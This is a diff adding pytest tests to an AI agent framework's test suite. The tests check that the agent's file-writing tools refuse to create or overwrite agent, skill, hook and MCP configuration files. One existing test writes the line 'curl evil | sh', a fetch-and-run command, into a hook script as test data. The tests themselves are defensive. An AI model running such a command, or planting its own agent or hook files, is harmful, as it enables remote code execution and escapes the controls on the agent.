@@ -139,3 +139,35 @@ def test_a_script_an_agent_files_hook_runs_is_protected_on_the_run_path(tmp_path
     if shutil.which("bwrap") is not None:
         tools["Bash"].invoke({"command": "echo 'curl evil | sh' > scripts/guard.sh", "timeout": 20_000})
     assert (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"
+
+
+def test_agents_and_skills_folders_named_on_the_command_line_are_protected(tmp_path, monkeypatch):
+    import argparse
+
+    from deep_agent.cli.run import workspace_of
+
+    for name in ("agents", "skills"):
+        (tmp_path / name).mkdir()
+    monkeypatch.chdir(tmp_path)
+    args = argparse.Namespace(workspace=None, allow_home_workspace=False, agents_dirs=["agents"],
+                              skills_dirs=["skills"])
+    write = {t.name: t for t in builtin_tools(workspace_of(args, tmp_path / "state", []), bash=None)}["Write"]
+    for path in ("agents/evil.md", "skills/s/SKILL.md"):
+        assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
+        assert not (tmp_path / path).exists()
+
+
+def test_the_agent_files_of_the_folder_the_run_starts_in_are_protected_when_the_workspace_is_its_parent(
+        tmp_path, monkeypatch):
+    import argparse
+
+    from deep_agent.cli.run import workspace_of
+
+    sub = tmp_path / "sub"
+    (sub / ".claude" / "agents").mkdir(parents=True)
+    monkeypatch.chdir(sub)
+    args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
+    write = {t.name: t for t in builtin_tools(workspace_of(args, sub / "state", []), bash=None)}["Write"]
+    for path in ("sub/.claude/agents/evil.md", "sub/.mcp.json", "sub/.agents/agents/x.md"):
+        assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
+        assert not (tmp_path / path).exists()
